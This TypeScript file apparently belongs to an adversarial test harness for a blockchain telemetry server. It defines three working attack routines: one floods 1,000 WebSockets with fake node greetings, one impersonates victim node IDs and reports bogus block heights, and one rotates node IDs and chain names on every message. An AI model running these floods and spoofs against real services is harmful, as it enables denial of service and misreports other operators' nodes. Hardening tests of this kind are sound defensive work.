import type { Socket } from 'node:net';
import { frame } from '../../support/raw-socket.js';
import type { Attack } from '../attack.js';
import { webSockets } from '../attacker-sockets.js';
import { endOf, repeat, until } from '../pace.js';

const IDS = 20;

function message(id: number, payload: Record<string, unknown>): Buffer {
  return frame(JSON.stringify({ id, ts: new Date().toISOString(), payload }));
}

function greeting(peerId: string, chain: string): Record<string, unknown> {
  return {
    msg: 'system.connected',
    network_id: peerId,
    chain,
    name: `name of ${peerId}`,
    version: '1.16.1-835e0767fe8',
    implementation: 'Parity Polkadot',
    authority: true,
    startup_time: '1767323045678',
  };
}

const block = (height: number): Record<string, unknown> => ({
  msg: 'block.import',
  best: `0x${height.toString(16).padStart(64, '0')}`,
  height,
  origin: 'NetworkBroadcast',
});

function write(sockets: readonly Socket[], index: number, data: Buffer): boolean {
  const socket = sockets[index % Math.max(1, sockets.length)];
  if (socket === undefined || socket.destroyed) return false;
  socket.write(data);
  return true;
}

/** 1,000 sockets with 20 nodes each, that there are not. */
export const ghosts: Attack = async (target) => {
  const end = endOf(target);
  const sockets = await webSockets(target, 1_000);
  let sent = 0;
  for (let id = 1; id <= IDS && performance.now() < end; id += 1) {
    for (let index = 0; index < sockets.length; index += 1) {
      const peerId = `12D3Ghost${index.toString()}x${id.toString()}`;
      if (write(sockets, index, message(id, greeting(peerId, 'Delivery')))) sent += 1;
      // Answers to pings are read in between.
      if (index % 200 === 0) await until(performance.now() + 10);
    }
  }
  await until(end);
  return {
    sockets: sockets.length,
    greetings: sent,
    open: sockets.filter(({ destroyed }) => !destroyed).length,
  };
};

/** Sockets that say they are nodes that behave, with heights that there are not. */
export const spoofedIds: Attack = async (target) => {
  const end = endOf(target);
  const sockets = await webSockets(target, 50);
  let sent = 0;
  await repeat(end, 10, (turn) => {
    const victim = target.victims[turn % target.victims.length] ?? '';
    const payload = turn % 50 < 10 ? greeting(victim, 'Delivery') : block(Number.MAX_SAFE_INTEGER - turn);
    if (write(sockets, turn, message(1 + (turn % IDS), payload))) sent += 1;
  });
  return { sockets: sockets.length, sent };
};

/** Each message of another id and another node. */
export const changingIds: Attack = async (target) => {
  const end = endOf(target);
  const sockets = await webSockets(target, 50);
  let sent = 0;
  await repeat(end, 20, (turn) => {
    for (let index = 0; index < sockets.length; index += 1) {
      const id = turn * sockets.length + index;
      if (
        write(
          sockets,
          index,
          message(id, greeting(`12D3Changing${id.toString()}`, `chain ${(id % 500).toString()}`)),
        )
      ) {
        sent += 1;
      }
    }
  });
  return { sockets: sockets.length, sent };
};
